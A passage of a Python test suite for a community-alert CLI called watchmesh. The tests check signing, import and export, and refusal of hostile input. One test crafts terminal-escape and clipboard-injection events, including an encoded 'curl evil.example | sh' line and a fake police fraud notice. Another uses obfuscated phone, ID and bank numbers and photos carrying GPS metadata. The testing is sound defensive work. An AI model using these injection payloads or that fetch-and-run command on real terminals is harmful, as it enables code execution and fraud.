            "ffd8ffe000104a46494600010100000100010000ffdb0043000101010101010101010101010101010101010101"
            "0101010101010101010101010101010101010101010101010101010101010101010101010101010101010101ff"
            "c0000b080008000801011100ffc40014000100000000000000000000000000000000ffc4001410010000000000"
            "0000000000000000000000ffda0008010100003f003fffd9"))
    a = env.post("alert", "v", "officer.key", "--group", G, "--headline", "寻人", "--text", "走失儿童",
                 "--area", "东区", "--circle", "-33.856784,151.215297,500", "--photo", "p.jpg")
    e = env.json("show", a, "--dir", "v", "--json")
    c = e["content"]
    check(c["event"] == "寻人" and c["category"] == "Safety" and c["urgency"] == "Immediate" and
          c["severity"] == "Severe" and c["certainty"] == "Observed", "alert defaults: %r" % c)
    check(c["circle"] == [-33856784, 151215297, 500], "circle: %r" % c["circle"])
    check(c["photo_type"] == "image/jpeg" and base64.b64decode(c["photo"]) ==
          open(env.path("p.jpg"), "rb").read(), "photo")
    check(c.get("lang") == "zh", "lang not set for Chinese text")
    day = 24 * 3600 * 1000
    check(before + day <= e["expires_at"] <= int(_t.time() * 1000) + day, "alert expiry not 24h")
    check(e["official"] and e["official_name"] == "王警官", "official fields")
    # absolute expiry, in local time (the tests run with TZ=Asia/Shanghai)
    b = env.post("bulletin", "v", "officer.key", "--group", G, "--title", "t", "--text", "hello",
                 "--expires", "2030-01-01 08:00")
    e = env.json("show", b[:7], "--dir", "v", "--json")
    check(e["expires_at"] == 1893456000000, "expires_at %r" % e["expires_at"])
    check(e["content"]["category"] == "notice" and "lang" not in e["content"], "bulletin defaults")
    # reply by prefix: refs[0] is the whole id; the feed nests it
    r = env.post("reply", "v", "res1.key", "--group", G, "--reply-to", a[:8], "--text", "见过")
    e = env.json("show", a[:8], "--dir", "v", "--json")
    check([x["id"] for x in e["referred_by"]] == [r], "referred_by")
    check(e["referred_by"][0]["refs"] == [a], "refs[0]")
    out, _ = env.run("feed", "--dir", "v")
    check("↳ 李阿姨 (resident) — reply" in out, "reply not nested under the alert:\n" + out)
    # text from a file and from stdin
    with open(env.path("long.txt"), "w") as f:
        f.write("第一行\n第二行\n")
    t = env.post("bulletin", "v", "officer.key", "--group", G, "--title", "t", "--text-file", "long.txt")
    check(env.json("show", t, "--dir", "v", "--json")["content"]["text"] == "第一行\n第二行",
          "--text-file")
    # a file written on Windows: CR LF line ends become LF (CR alone is refused)
    with open(env.path("crlf.txt"), "wb") as f:
        f.write("第一行\r\n第二行\r\n".encode())
    t = env.post("bulletin", "v", "officer.key", "--group", G, "--title", "t", "--text-file", "crlf.txt")
    check(env.json("show", t, "--dir", "v", "--json")["content"]["text"] == "第一行\n第二行",
          "--text-file with CR LF")
    out, _ = env.run("post", "reply", "--key", "res2.key", "--dir", "v", "--group", G, "--ref", a,
                     "--text-file", "-", stdin="来自标准输入".encode())
    check(env.json("show", out.strip(), "--dir", "v", "--json")["content"]["text"] == "来自标准输入",
          "--text-file -")
    # retract: the event is kept withheld, its header without its content
    env.post("retract", "v", "officer.key", "--group", G, "--ref", b, "--reason", "发错了")
    out, _ = env.run("show", b, "--dir", "v")
    check("withheld" in out and "hello" not in out, "show of a retracted event: " + out)
    j = env.json("show", b, "--dir", "v", "--json")
    check(j["withheld"] is True and j["content"] == {} and j["kind"] == "bulletin",
          "show --json of a retracted event: %r" % j)
    feed = {e["id"]: e for e in env.json("feed", "--dir", "v", "--json", "--all", "--limit", "0")}
    check(b in feed and feed[b]["withheld"] is True, "the feed does not show the retracted event withheld")
    # exported withheld, after its retract; a new node takes it so
    out, _ = env.run("export", "--dir", "v", "--out", "v.wmb")
    check("1 withheld" in out, "export: " + out)
    env.run("init", "w", "--network", "net", "--name", "w")
    out, err = env.run("import", "--dir", "w", "v.wmb")
    check(" 0 refused" in summary(out), "importing an export with a withheld event: " + out + err)
    j = env.json("show", b, "--dir", "w", "--json")
    check(j["withheld"] is True and j["content"] == {}, "the imported withheld event: %r" % j)
    # --out without --dir: signed, not stored, appended
    env.post("bulletin", None, "officer.key", "--group", G, "--title", "t", "--text", "x", "--out", "o.wmb")
    env.post("bulletin", None, "officer.key", "--group", G, "--title", "t", "--text", "y", "--out", "o.wmb")
    check(len(wmtest.read_bundle(env.path("o.wmb"))) == 2, "--out appends")


def t_vouched(env):
    """A vouched group: residents with a certificate post there, a key
    without one is refused with the reason and nothing is stored; other
    groups stay open; a bad --vouched is a usage error."""
    env.world("v", vouched=G)
    check("\nvouched %s\n" % G in open(env.path("net"), encoding="utf-8").read(),
          "the network file lacks the vouched line")
    ok = env.post("request", "v", "res1.key", "--group", G, "--topic", "police",
                  "--text", "自行车被偷了。")
    check(len(ok) == 64, "a resident's request in the vouched group was not stored")
    env.key("stranger.key")
    before = env.feed_ids("v")
    _, err = env.run("post", "request", "--key", "stranger.key", "--dir", "v", "--group", G,
                     "--topic", "police", "--text", "自行车被偷了。", rc="nonzero")
    check("vouched" in err and G in err, "the refusal does not say the group is vouched: " + err)
    check(env.feed_ids("v") == before, "a refused request was stored")
    other = env.post("request", "v", "stranger.key", "--group", "gaobu.other", "--new-group", "--topic", "police",
                     "--text", "自行车被偷了。")
    check(len(other) == 64, "another group is not open")
    _, err = env.run("network", "create", "--name", "x", "--out", "net2", "--passphrase-file",
                     env.passfile, "--vouched", "network", rc=2)
    check("--vouched" in err, "no usage error for --vouched network: " + err)


def t_escape(env):
    """Issue 8, item 4, as an attacker does it: events crafted with PyNaCl by
    a resident's key, carrying clear-screen, window-title and OSC 52
    (clipboard) sequences, CR and C1 CSI (U+009B), and a fake official
    line.  The public ones are refused at import with the reason; the sealed
    one is stored (its text is inside the box) and `feed`/`show --key` show
    it as refused, never its text.  Then names of certificates stored
    before the rule (written into the store by hand) carry ESC, CR, C1 and
    a bidi override: feed and show print them escaped."""
    import base64
    import sqlite3
    import time as _t

    def raw_controls(text):
        """Characters a terminal acts on, as they reached our stdout/stderr."""
        return sorted({"U+%04X" % ord(c) for c in text
                       if (ord(c) < 0x20 and c not in "\n") or 0x7f <= ord(c) <= 0x9f or
                       0x202a <= ord(c) <= 0x202e or 0x2066 <= ord(c) <= 0x2069 or c == "\ufffd"})

    env.world("v")
    officer = bytes.fromhex(env.run("key", "show", "officer.key")[0].strip())
    station = bytes.fromhex(env.run("key", "show", "station.key")[0].strip())
    seed = wmtest.key_seed(env.path("res1.key"))
    author = bytes(nacl.signing.SigningKey(seed).verify_key)
    now = int(_t.time() * 1000)

    net = wmtest.network_id(env.path("net"))

    def event(kind, content, refs=(), dt=0):
        return wmtest.event(seed, kind, now + dt, G, content, refs, network=net)

    def seal(text, recipients):
        inner = seal_inner(seed, 3, net, G, recipients, text, "police")
        return seal_box(inner, seal_ad(3, net, author, G), recipients, author)

    fake = "★ 王警官 · 高埔派出所 — bulletin · " + G
    lure = "请立即把存款转入安全账户"
    attack = ("\x1b[2J\x1b[H" "\x1b]0;watchmesh: official notice\x07"
              "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07" +
              fake + "\n  " + lure)
    sealed, sealed_id = event(3, {"box": seal(attack, [officer])})
    cr, _ = event(4, {"text": "收到\r" + fake + "\n  " + lure}, [bytes.fromhex(sealed_id)], 1)
    csi, _ = event(4, {"text": "收到\u009b2K\u009b1A" + fake}, [bytes.fromhex(sealed_id)], 2)
    topic, _ = event(3, {"topic": "police\u009b2J\x1b[H", "text": lure}, (), 3)
    with open(env.path("attack.wm"), "wb") as f:
        f.write(sealed + cr + csi + topic)

    out, err = env.run("import", "--dir", "v", "attack.wm")
    check(raw_controls(out + err) == [], "import printed %r raw:\n%r" % (raw_controls(out + err), err))
    lines = refused_lines(err)
    check(len(lines) == 3, "expected 3 refusals, got:\n" + err)
    check(lines[0].startswith("watchmesh: event 2 ") and "'text' holds a carriage return (U+000D)" in lines[0],
          "the CR reply's refusal: " + lines[0])
    check(lines[1].startswith("watchmesh: event 3 ") and
          "'text' holds a C1 control character (U+009B)" in lines[1], "the C1 reply's refusal: " + lines[1])
    check(lines[2].startswith("watchmesh: event 4 ") and "'topic' is 'police\\u009b2J\\x1b[H'" in lines[2],
          "the enum refusal quotes the value escaped: " + lines[2])
    check(summary(out) == "4 events: 1 stored, 0 duplicates, 3 refused", "summary: " + summary(out))

    # the sealed one: opened by the officer, refused with the reason, not printed
    for args in (["feed", "--dir", "v"], ["show", sealed_id[:8], "--dir", "v"]):
        out, _ = env.run(*args, "--key", "officer.key", "--passphrase-file", env.passfile)
        check(raw_controls(out) == [], "%s printed %r raw" % (args[0], raw_controls(out)))
        check("not shown: content key 'text' holds an escape (U+001B) at byte 0" in out,
              "%s does not say why the sealed text is not shown:\n%s" % (args[0], out))
        check(lure not in out and "official notice" not in out, "%s printed the sealed text:\n%s" % (args[0], out))
    evs = [e for e in env.json("feed", "--dir", "v", "--json", "--key", "officer.key",
                               "--passphrase-file", env.passfile) if e["id"] == sealed_id]
    check(len(evs) == 1 and "private_text" not in evs[0] and "U+001B" in evs[0].get("private_refused", ""),
          "feed --json: %r" % evs)

    # our own CLI refuses to sign such text, sealed or not
    before = env.feed_ids("v")
    for args in (["--to", "officer.key"], []):
        _, err = env.run("post", "request", "--dir", "v", "--key", "res1.key", "--group", G,
                         "--text", "收到\r" + fake, *args, rc="nonzero")
        check("carriage return (U+000D)" in err and raw_controls(err) == [],
              "post %s: the refusal does not name the CR: %r" % (args, err))
    check(env.feed_ids("v") == before, "a refused post was stored")

    # certificates stored before the rule: a station and a resident whose
    # names carry a title sequence, a C1 CSI, ESC, CR and a bidi override
    b = env.post("bulletin", "v", "officer.key", "--group", G, "--title", "防诈骗", "--text", "请勿转账。")
    r = env.post("request", "v", "res1.key", "--group", G, "--text", "楼道灯坏了。")
    db = sqlite3.connect(env.path("v", "store.db"))
    db.execute("UPDATE certs SET name = ? WHERE subject = ?", ("高埔派出所\x1b]0;pwned\x07\u009b2J", station))
    db.execute("UPDATE certs SET name = ? WHERE subject = ?", ("李阿姨\x1b[2J\r\u202e", author))
    db.commit()
    check(db.total_changes == 2, "the certificates were not rewritten")
    db.close()
    for args in (["feed", "--dir", "v"], ["show", b[:8], "--dir", "v"], ["show", r[:8], "--dir", "v"]):
        out, _ = env.run(*args)
        check(raw_controls(out) == [], "%s printed %r raw:\n%r" % (args, raw_controls(out), out))
        if args[1] != r[:8]:
            check("★ 王警官 · 高埔派出所\\x1b]0;pwned\\x07\\u009b2J — bulletin" in out,
                  "%s: the station's name is not shown escaped:\n%s" % (args, out))
        if args[1] != b[:8]:
            check("李阿姨\\x1b[2J\\x0d\\u202e (resident) — request" in out,
                  "%s: the resident's name is not shown escaped:\n%s" % (args, out))
    # a refusal that quotes such a name: escaped on stderr too
    _, err = env.run("post", "bulletin", "--dir", "v", "--key", "res1.key", "--group", G,
                     "--title", "假通知", "--text", "请转账。", rc="nonzero")
    check(raw_controls(err) == [] and "李阿姨\\x1b[2J\\x0d\\u202e" in err,
          "the refusal quoting the resident's name: %r" % err)


def t_chain(env):
    """prev (PROTOCOL.md section 3) as the CLI fills it from KEY.heads."""
    g2 = G + "-east"
    env.world("v", group=G + "," + g2)

    def prev(i):
        return env.json("show", i, "--dir", "v", "--json")["prev"]

    def heads(key):
        with open(env.path(key + ".heads"), encoding="utf-8") as f:
            return dict(l.split() for l in f.read().splitlines()[1:])

    p1 = env.post("bulletin", "v", "officer.key", "--group", G, "--title", "一", "--text", "第一条")
    p2 = env.post("bulletin", "v", "officer.key", "--group", G, "--title", "二", "--text", "第二条")
    check(prev(p1) is None and prev(p2) == p1, "two posts do not chain: %r %r" % (prev(p1), prev(p2)))
    # an alert in between points back to the head but does not become it
    a = env.post("alert", "v", "officer.key", "--group", G, "--headline", "警报", "--text", "注意",
                 "--area", "村口", "--expires", "1h")
    p3 = env.post("bulletin", "v", "officer.key", "--group", G, "--title", "三", "--text", "第三条")
    check(prev(a) == p2 and prev(p3) == p2, "the alert broke the chain: %r %r" % (prev(a), prev(p3)))
    check(heads("officer.key") == {G: p3}, "heads file: %r" % heads("officer.key"))
    # another group, another chain; the first one untouched
    q1 = env.post("bulletin", "v", "officer.key", "--group", g2, "--title", "东", "--text", "东一")
    q2 = env.post("bulletin", "v", "officer.key", "--group", g2, "--title", "东", "--text", "东二")
    check(prev(q1) is None and prev(q2) == q1, "the second group's chain: %r %r" % (prev(q1), prev(q2)))
    check(heads("officer.key") == {G: p3, g2: q2}, "heads file: %r" % heads("officer.key"))
    # a refused event does not move the head
    env.post("bulletin", "v", "res1.key", "--group", G, "--title", "假", "--text", "假的", rc=1)
    r1 = env.post("request", "v", "res1.key", "--group", G, "--topic", "other", "--text", "求助")
    check(prev(r1) is None, "a refused post moved the head: %r" % prev(r1))
    # the heads file lost: a new branch
    os.remove(env.path("officer.key.heads"))
    p4 = env.post("bulletin", "v", "officer.key", "--group", G, "--title", "四", "--text", "第四条")
    check(prev(p4) is None, "after losing the heads file: %r" % prev(p4))
    # with --out as well, and certificates in group network
    p5 = env.post("bulletin", None, "officer.key", "--group", G, "--title", "五", "--text", "第五条",
                  "--out", "o.wmb")
    check(heads("officer.key")[G] == p5, "--out does not move the head")
    c1 = env.cert("station.key", "res2.key", "resident", "陈先生", G, node="v")
    c2 = env.cert("station.key", "res2.key", "resident", "陈先生", g2, node="v")
    check(prev(c2) == c1, "certificates do not chain in group network: %r" % prev(c2))
    # posts with one key at once: the key file is locked from reading the
    # head to moving it, so they form one chain (no two share a prev)
    procs = [subprocess.Popen([env.binary, "post", "request", "--key", "res2.key", "--dir", "v",
                               "--group", G, "--topic", "other", "--text", "同时 %d" % i],
                              cwd=env.dir, env=env.env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
             for i in range(8)]
    ids = []
    for p in procs:
        out, err = p.communicate(timeout=120)
        check(p.returncode == 0, "a concurrent post failed: " + err.decode(errors="replace"))
        ids.append(out.decode().strip())
    prevs = [prev(i) for i in ids]
    check(len(set(prevs)) == len(ids) and sum(1 for x in prevs if x not in ids) == 1,
          "concurrent posts do not form one chain: %r" % prevs)
    # a broken heads file is refused with the way out
    with open(env.path("officer.key.heads"), "w", encoding="utf-8") as f:
        f.write("watchmesh-heads 1\nnot a line\n")
    _, err = env.run("post", "bulletin", "--key", "officer.key", "--passphrase-file", env.passfile,
                     "--dir", "v", "--group", G, "--title", "六", "--text", "六", rc=1)
    check("officer.key.heads" in err and "delete it" in err, "a broken heads file: " + err)


def t_othernet(env):
    """Issue 8, item 5, as it was reproduced: a bundle made in another network
    (open-group requests and replies by keys of no certificate, which any
    node would otherwise take, and that network's certificates) is imported
    into a node of this one.  Nothing is stored, and each event is refused
    with a reason that names both networks."""
    env.world("a")
    env.run("network", "create", "--name", "othernet", "--out", "net2", "--passphrase-file", env.passfile)
    env.run("init", "x", "--network", "net2", "--name", "x")
    env.run("cert", "issue", "--issuer", "net2.root.key", "--passphrase-file", env.passfile,
            "--subject", "station.key", "--role", "station", "--name", "外网派出所", "--groups", "*",
            "--dir", "x")
    for i in range(5):
        r = env.post("request", "x", "res1.key", "--group", G, "--topic", "other", "--new-group",
                     "--text", "来自另一个网络的求助 %d" % i)
        env.post("reply", "x", "res2.key", "--group", G, "--ref", r, "--text", "收到 %d" % i)
    env.run("export", "--dir", "x", "--out", "other.wmb")
    n = len(wmtest.read_bundle(env.path("other.wmb")))
    check(n == 11, "expected 11 events in the other network's bundle, got %d" % n)
    before = set(env.feed_ids("a"))
    out, err = env.run("import", "--dir", "a", "other.wmb")
    check(summary(out) == "%d events: 0 stored, 0 duplicates, %d refused" % (n, n),
          "importing another network's bundle: " + summary(out))
    ours, theirs = wmtest.network_id(env.path("net")).hex(), wmtest.network_id(env.path("net2")).hex()
    lines = refused_lines(err)
    check(len(lines) == n, "expected %d refusals, got:\n%s" % (n, err))
    for ln in lines:
        check("made in another network" in ln and theirs in ln and ours in ln and "'testnet'" in ln,
              "a refusal does not name both networks: " + ln)
    check(set(env.feed_ids("a")) == before, "node a's feed changed")
    # a post made for the other network with --out is refused the same way
    env.post("request", None, "res1.key", "--group", G, "--topic", "other", "--text", "别的网络",
             "--out", "one.wmb", "--network", "net2")
    out, err = env.run("import", "--dir", "a", "one.wmb")
    check("made in another network" in err, "a single event of the other network: " + err)
    # a network file of the retired format (no id line) is refused, saying what to do
    with open(env.path("net"), encoding="utf-8") as f:
        old = "".join(l for l in f if not l.startswith("id "))
    with open(env.path("net-old"), "w", encoding="utf-8") as f:
        f.write(old)
    os.chmod(env.path("net-old"), 0o600)
    _, err = env.run("init", "z", "--network", "net-old", "--name", "z", rc="nonzero")
    check("lacks an 'id' line" in err and "network create" in err, "an old network file: " + err)
def kdf_line(path):
    """(opslimit, memlimit) recorded in an encrypted key file."""
    with open(path) as f:
        for line in f:
            if line.startswith("argon2id "):
                return tuple(int(x) for x in line.split()[1:3])
    raise Failure("no argon2id line in " + path)


def prompt_run(env, args, steps):
    """Run watchmesh ARGS with a pty as stdin, in its own process group (so
    that Ctrl-Z stops it, as a shell's job).  steps(proc, master, echo,
    expect) drives it once the first prompt is on stderr with echo off;
    expect(text) waits for text on stderr.  Returns (exit status, stderr,
    echo after exit)."""
    import select
    import termios
    import time
    master, slave = os.openpty()

    def echo():
        return bool(termios.tcgetattr(slave)[3] & termios.ECHO)

    check(echo(), "a fresh pty has echo off")
    p = subprocess.Popen([env.binary] + args, cwd=env.dir, env=env.env, stdin=slave,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, process_group=0)
    err = [b""]

    def expect(text):
        deadline = time.monotonic() + 30
        while text.encode() not in err[0]:
            r, _, _ = select.select([p.stderr], [], [], 1)
            if r:
                chunk = os.read(p.stderr.fileno(), 4096)
                check(chunk, "stderr closed before %r: %r" % (text, err[0]))
                err[0] += chunk
            check(time.monotonic() < deadline, "no %r within 30 s: %r" % (text, err[0]))

    try:
        expect("assphrase")        # a prompt: "Passphrase for", "New passphrase"
        check(not echo(), "echo is on at the prompt")
        steps(p, master, echo, expect)
        p.wait(30)
        err[0] += p.stderr.read()
        return p.returncode, err[0].decode("utf-8", "replace"), echo()
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
        p.stdout.close()
        p.stderr.close()
        os.close(master)
        os.close(slave)


def t_keys(env):
    """Issue 8, item 11, as a thief with a copied key file or a shared
    machine sees it."""
    import signal
    import stat
    import time
    import nacl.pwhash
    import nacl.secret

    def write(name, text):
        with open(env.path(name), "w") as f:
            f.write(text + "\n")
        return name

    # weak passphrases: refused with the reason, nothing written
    for pw, reason in (("a", "too short: 1 characters"), ("13812345678", "digits only"),
                       ("qwertyuiop", "most common"), ("abcdefghijk", "run of keys")):
        _, err = env.run("key", "new", "--out", "k.key", "--passphrase-file", write("weak", pw),
                         rc=1)
        check(reason in err and len(err.strip().splitlines()) == 1,
              "key new with %r: the refusal does not say %r: %r" % (pw, reason, err))
        check(not os.path.exists(env.path("k.key")), "a key with the passphrase %r was written" % pw)
        _, err = env.run("network", "create", "--name", "x", "--out", "net", "--passphrase-file",
                         env.path("weak"), rc=1)
        check(reason in err, "network create with %r: %r" % (pw, err))
        check(not os.path.exists(env.path("net")) and not os.path.exists(env.path("net.root.key")),
              "a network whose root passphrase is %r was made" % pw)

    # the levels, recorded in the files: the suite's fast mode keeps the
    # passes (4 SENSITIVE, 3 MODERATE); one real MODERATE key without it
    env.network()
    env.key("officer.key", encrypted=True)
    fast = env.env.pop("WATCHMESH_TEST_FAST_KDF")
    try:
        env.run("key", "new", "--out", "real.key", "--passphrase-file", env.passfile)
    finally:
        env.env["WATCHMESH_TEST_FAST_KDF"] = fast
    for name, want in (("net.root.key", (4, 8192)), ("officer.key", (3, 8192)),
                       ("real.key", (3, 268435456))):
        got = kdf_line(env.path(name))
        check(got == want, "%s records %r, not %r" % (name, got, want))

    # a key file from before the levels (INTERACTIVE: 2 passes, 64 MiB),
    # sealed here by PyNaCl, still signs; a wrong passphrase is still wrong
    seed = bytes(range(32))
    pub = bytes(nacl.signing.SigningKey(seed).verify_key)
    salt, nonce = os.urandom(16), os.urandom(24)
    box_key = nacl.pwhash.argon2id.kdf(32, b"an old station passphrase", salt,
                                       opslimit=2, memlimit=67108864)
    box = nacl.secret.SecretBox(box_key).encrypt(seed + pub, nonce).ciphertext
    write("old.key", "watchmesh-key 1\npublic %s\nargon2id 2 67108864 %s %s %s"
          % (pub.hex(), salt.hex(), nonce.hex(), box.hex()))
    cert = ["cert", "issue", "--issuer", "old.key", "--subject", "officer.key", "--role", "officer",
            "--name", "王警官", "--groups", G, "--out", "old.wmb", "--network", "net", "--passphrase-file"]
    env.run(*cert, write("oldpass", "an old station passphrase"))
    check(len(wmtest.read_bundle(env.path("old.wmb"))) == 1, "the old key signed nothing")
    _, err = env.run(*cert, write("wrongpass", "another old passphrase"), rc=1)
    check("wrong passphrase" in err, "a wrong passphrase for the old key: %r" % err)

    # the prompt: Ctrl-Z, Ctrl-C or a kill while echo is off gives the
    # terminal its echo back (after Ctrl-Z and fg, echo goes off again)
    def state(pid):
        with open("/proc/%d/stat" % pid) as f:
            return f.read().rsplit(")", 1)[1].split()[0]

    def wait_for(what, cond):
        deadline = time.monotonic() + 30
        while not cond():
            check(time.monotonic() < deadline, "timed out waiting for " + what)
            time.sleep(0.02)

    def stop_then_interrupt(p, master, echo, expect):
        p.send_signal(signal.SIGTSTP)
        wait_for("the prompt to stop", lambda: state(p.pid) == "T")
        check(echo(), "echo is off while the prompt is stopped (Ctrl-Z)")
        p.send_signal(signal.SIGCONT)
        wait_for("echo to go off again after fg", lambda: not echo())
        p.send_signal(signal.SIGINT)

    rc, err, echo_after = prompt_run(env, ["key", "new", "--out", "tty.key"], stop_then_interrupt)
    check(rc == -signal.SIGINT, "the prompt did not end on SIGINT: %r %r" % (rc, err))
    check(echo_after, "echo left off after Ctrl-C at the prompt")
    rc, err, echo_after = prompt_run(env, ["key", "new", "--out", "tty.key"],
                                     lambda p, m, e, x: p.send_signal(signal.SIGTERM))
    check(rc == -signal.SIGTERM and echo_after, "echo left off after SIGTERM at the prompt: %r" % rc)
    check(not os.path.exists(env.path("tty.key")), "an interrupted prompt wrote a key")
    # typed at the terminal: a weak one is refused with the reason, a good
    # one (twice) makes the key, read by read(2) up to the newline
    def weak_thrice(p, master, echo, expect):
        for n in (2, 3):
            os.write(master, b"horse\n")
            expect("try again (%d of 3)\nNew passphrase for the key: " % n)
        os.write(master, b"horse\n")

    rc, err, echo_after = prompt_run(env, ["key", "new", "--out", "tty.key"], weak_thrice)
    check(rc == 1 and "too short" in err and echo_after, "a weak typed passphrase: %r %r" % (rc, err))

    def type_twice(p, master, echo, expect):
        os.write(master, "马 horse 电池 staple\n".encode())
        expect("Same passphrase again")
        check(not echo(), "echo is on at the second prompt")
        os.write(master, "马 horse 电池 staple\n".encode())

    rc, err, echo_after = prompt_run(env, ["key", "new", "--out", "tty.key"], type_twice)
    check(rc == 0 and echo_after and os.path.exists(env.path("tty.key")),
          "typed twice: %r %r" % (rc, err))
    env.run("cert", "issue", "--issuer", "tty.key", "--subject", "officer.key", "--role", "officer",
            "--name", "王警官", "--groups", G, "--out", "tty.wmb", "--network", "net", "--passphrase-file",
            write("ttypass", "马 horse 电池 staple"))

    # modes: a node in a directory that already exists 0755, umask 022
    os.umask(0o022)
    os.mkdir(env.path("shared"), 0o755)
    env.run("init", "shared", "--network", "net", "--name", "shared")
    env.run("export", "--dir", "shared", "--out", "shared.wmb")

    def mode(*p):
        return stat.S_IMODE(os.stat(env.path(*p)).st_mode)

    for p in (("shared", "store.db"), ("shared.wmb",)):
        check(mode(*p) == 0o600, "%s is %o, not 600" % (os.path.join(*p), mode(*p)))
    # -wal and -shm exist while the daemon holds the store open
    conf = env.path("shared", "watchmesh.conf")
    with open(conf, "a") as f:
        f.write("listen = 127.0.0.1:0\nbeacons = off\nhttp = off\n")
    with open(env.path("shared.log"), "wb") as log:
        d = subprocess.Popen([env.binary, "run", "shared"], cwd=env.dir, env=env.env,
                             stdin=subprocess.DEVNULL, stdout=log, stderr=log)
        try:
            wait_for("the daemon to listen and its -wal and -shm",
                     lambda: d.poll() is not None or (
                         os.path.exists(env.path("shared", "store.db-wal")) and
                         os.path.exists(env.path("shared", "store.db-shm")) and
                         "listening on" in open(env.path("shared.log"), errors="replace").read()))
            check(d.poll() is None, "the daemon exited: " + open(env.path("shared.log")).read())
            for p in ("store.db-wal", "store.db-shm"):
                check(mode("shared", p) == 0o600, "%s is %o, not 600" % (p, mode("shared", p)))
        finally:
            d.terminate()
            d.wait(30)


def t_personal(env):
    """Issue 8, item 12 as an author who means to dox someone does it: the
    number written so a naive scan misses it, a photo that carries where it
    was taken.  Each spelling is refused with the number masked; the stored
    photo is the picture without its metadata (compared byte for byte);
    a damaged photo is refused; ordinary bulletins still go through."""
    import base64
    import struct
    import zlib

    env.world("v")
    before = env.feed_ids("v")

    def post(args, rc=0):
        a = ["post", "--dir", "v", "--key", "officer.key", "--passphrase-file", env.passfile,
             "--group", G] + args
        return env.run(*a, rc=rc)

    spellings = [
        ("138.1234.5678", "mobile number 138****5678"),
        ("138/1234/5678", "mobile number 138****5678"),
        ("(138)1234-5678", "mobile number 138****5678"),
        ("1 3 8 1 2 3 4 5 6 7 8", "mobile number 138****5678"),
        ("138\u200b1234\u200b5678", "mobile number 138****5678"),
        ("1\u200b3\u200b8\u200b1\u200b2\u200b3\u200b4\u200b5\u200b6\u200b7\u200b8",
         "mobile number 138****5678"),
        ("138\ufe631234\ufe635678", "mobile number 138****5678"),
        ("138\u20141234\u20145678", "mobile number 138****5678"),
        ("\u2460\u2462\u2467\u2460\u2461\u2462\u2463\u2464\u2465\u2466\u2467", "mobile number 138****5678"),
        ("".join(chr(0x1d7ce + int(d)) for d in "13812345678"), "mobile number 138****5678"),
        ("110105.19491231.002X", "resident ID number 110***********002X"),
        ("622 202 123 456 789 4", "bank card number 6222********7894"),
        ("621700 123456 7890122", "bank card number 6217***********0122"),
    ]
    for written, masked in spellings:
        out, err = post(["bulletin", "--title", "寻人", "--text", "请联系" + written + "。"], rc=1)
        lines = err.strip().splitlines()
        check(len(lines) == 1 and lines[0].startswith("watchmesh: refused: --text contains personal "
                                                      "data: " + masked),
              "%r: not refused with the masked number:\n%s" % (written, err))
        check(written not in err and out == "", "%r: the number itself was printed" % written)

    # real bulletins: dates, times, prices, hotlines, coordinates
    for text in ["2026年11月29日14:30，新华村一居民被骗转账3.8万元，如有疑问请拨打110或96110。",
                 "停水通知：12月3日8:00-18:00新华村1-5栋停水；2026-12-01 07:00 - 2026-12-03 19:30。",
                 "本周巡逻：周一至周五 19:00-21:00，周六 09:00-11:30、14:00-17:00。",
                 "集合地点 18.252847, 109.511909，罚款200-500元，¥12,800.00，血压120/80。"]:
        out, err = post(["bulletin", "--title", "通知", "--text", text])
        check(len(out.strip()) == 64, "an ordinary bulletin was refused: %r\n%s" % (text, err))

    # photos, built here: the picture, and the same picture with metadata
    def tiff_gps():
        """EXIF's TIFF with a GPS IFD: 22 deg 32' 35" N."""
        return (b"II*\0" + struct.pack("<I", 8) +
                struct.pack("<HHHII", 1, 0x8825, 4, 1, 26) + struct.pack("<I", 0) +
                struct.pack("<HHHI4s", 2, 1, 2, 2, b"N\0\0\0") + struct.pack("<HHII", 2, 5, 3, 56) +
                struct.pack("<I", 0) + struct.pack("<6I", 22, 1, 32, 1, 35, 1))

    def seg(marker, payload):
        return bytes([0xff, marker]) + struct.pack(">H", len(payload) + 2) + payload

    jfif = seg(0xe0, b"JFIF\0\x01\x01\x00\x00\x01\x00\x01\x00\x00")
    # an 8x8 grey baseline JPEG: one block, DC 0 and end of block
    picture = (seg(0xdb, b"\0" + b"\1" * 64) + seg(0xc0, bytes([8, 0, 8, 0, 8, 1, 1, 0x11, 0])) +
               seg(0xc4, bytes([0x00, 1] + [0] * 15 + [0])) + seg(0xc4, bytes([0x10, 1] + [0] * 15 + [0])) +
               seg(0xda, bytes([1, 1, 0, 0, 63, 0])) + b"\x3f\xff\xd9")
    jpeg = b"\xff\xd8" + jfif + picture
    jpeg_gps = (b"\xff\xd8" + jfif + seg(0xe1, b"Exif\0\0" + tiff_gps()) +
                seg(0xe1, b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>Gaobu</x:xmpmeta>") + picture)

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    png_head = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0))
    png_tail = chunk(b"IDAT", zlib.compress(b"\0\0\0\0\0")) + chunk(b"IEND", b"")
    png = png_head + png_tail
    png_gps = (png_head + chunk(b"eXIf", tiff_gps()) + chunk(b"tEXt", b"Author\0Wang 13812345678") +
               chunk(b"tIME", bytes([0x07, 0xea, 11, 29, 14, 30, 0])) + png_tail)

    def riff(chunks):
        body = b"WEBP" + b"".join(c + struct.pack("<I", len(d)) + d + b"\0" * (len(d) & 1) for c, d in chunks)
        return b"RIFF" + struct.pack("<I", len(body)) + body

    vp8 = bytes.fromhex("3001009d012a010001000ec0fe25a400037000000000")
    webp = riff([(b"VP8X", bytes(10)), (b"VP8 ", vp8)])
    webp_gps = riff([(b"VP8X", bytes([0x0c]) + bytes(9)), (b"VP8 ", vp8), (b"EXIF", tiff_gps()),
                     (b"XMP ", b"<x:xmpmeta/>")])

    for name, plain, full, said in [("gps.jpg", jpeg, jpeg_gps, "EXIF (GPS position), XMP"),
                                    ("gps.png", png, png_gps, "EXIF (GPS position), text, time"),
                                    ("gps.webp", webp, webp_gps, "EXIF (GPS position), XMP")]:
        with open(env.path(name), "wb") as f:
            f.write(full)
        out, err = post(["alert", "--headline", "寻人", "--text", "走失儿童", "--area", "东区",
                         "--photo", name])
        check(err.strip() == "removed from the photo: " + said,
